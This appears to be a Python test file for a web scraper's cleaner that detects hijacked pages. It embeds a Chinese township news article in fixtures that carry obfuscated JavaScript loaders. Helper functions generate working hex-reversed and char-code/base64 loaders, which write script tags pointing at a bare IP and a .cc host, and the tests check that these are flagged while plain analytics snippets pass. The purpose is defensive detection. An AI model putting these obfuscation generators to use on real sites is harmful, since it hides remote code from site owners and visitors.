"""A script that writes a <script src> whose address no reader of the code sees — kept reversed in an
array of hex escapes, or as character codes fed through base64 — loads code the page's reader cannot
name: only running it shows the host (v39b rc39b-003: the _0xaae8 line appended to a site's every JS
file writes a loader from a bare IP; v24 sv24-001/-018: a char-code/base64 decoder writes one from a
.cc or digit-named host). The sandbox runs the decoder; inserted.inserted_for_visitor reads the tag it
wrote (mwb30's variant 7108231, wired in session 31 with v39 as dev; inserted.py's note).
A loader written in plain sight (a counter's or analytics' snippet, unescape()d or split with
"+") names its host in a constant: it stays clean."""
from __future__ import annotations

import base64

from scraper.clean import clean_page

URL = "http://www.qiaotou-town.gov.cn/xwdt/20241127/3086.html"

BODY = ("<p>11月26日,乔头镇召开乡村振兴专题协商会,围绕特色农业园区建设、人居环境整治等议题开展协商。</p>"
        "<p>会上,与会委员结合调研情况,就推进农业产业融合、完善基础设施建设提出意见建议十余条。</p>"
        "<p>镇党委书记在讲话中要求,要认真梳理吸纳委员意见,推动协商成果转化为工作实效。</p>")


def _page(head: str = "", tail: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>乔头镇召开乡村振兴专题协商会_乔头镇人民政府</title>'
            f'{head}</head><body><header><a href="/">乔头镇人民政府</a><nav><a href="/">首页</a>'
            '<a href="/xwdt/">新闻动态</a></nav></header>'
            '<article><h1>乔头镇召开乡村振兴专题协商会</h1><div class="info">发布时间：2024-11-27 来源：乔头镇</div>'
            f'<div id="zoom">{BODY}</div></article>'
            f'<footer><p>主办：乔头镇人民政府</p></footer>{tail}</body></html>').encode()


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02X}" for c in s)


def _reversed_hex_loader(address: str) -> str:
    tag = f'<script src="{address}"></script>'
    return (f'var _0xb7c1=["","{_hex("join")}","{_hex("reverse")}","{_hex("split")}","{_hex(tag[::-1])}",'
            f'"{_hex("write")}"];document[_0xb7c1[5]](_0xb7c1[4][_0xb7c1[3]](_0xb7c1[0])[_0xb7c1[2]]()'
            '[_0xb7c1[1]](_0xb7c1[0]));')


def _char_code_base64_loader(address: str) -> str:
    codes = ",".join(str(ord(c)) for c in base64.b64encode(f"<script src={address}></script>".encode()).decode())
    return f"function Qz(e){{return atob(String.fromCharCode.apply(null,e))}}document.write(Qz([{codes}]));"


def test_a_reversed_hex_array_loader_is_spam():
    head = f"<script>{_reversed_hex_loader('http://45.77.140.21/jquery.js')}</script>"
    a = clean_page(_page(head=head), url=URL)
    assert a.hijacked and "spam_script" in {f.kind for f in a.findings}
    assert any("45.77.140.21" in f.evidence for f in a.findings)
    assert "乡村振兴" in a.text


def test_a_char_code_base64_loader_is_spam():
    tail = f"<script>{_char_code_base64_loader('https://kx-ge77.cc/c.js')}</script>"
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and "spam_script" in {f.kind for f in a.findings}


def test_a_counter_written_in_plain_sight_stays_clean():
    tail = ('<script>var _bdhmProtocol = (("https:" == document.location.protocol) ? " https://" : " http://");'
            'document.write(unescape("%3Cscript src=\'" + _bdhmProtocol + "hm.baidu.com/h.js%3F2a0fcfa6e71f5231\' '
            'type=\'text/javascript\'%3E%3C/script%3E"));</script>')
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked, a.findings


def test_a_split_library_loader_stays_clean():
    tail = '<script>document.write("<scr"+"ipt src=\'https://cdn.staticfile.org/jquery/1.11.3/jquery.min.js\'></scr"+"ipt>");</script>'
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked, a.findings
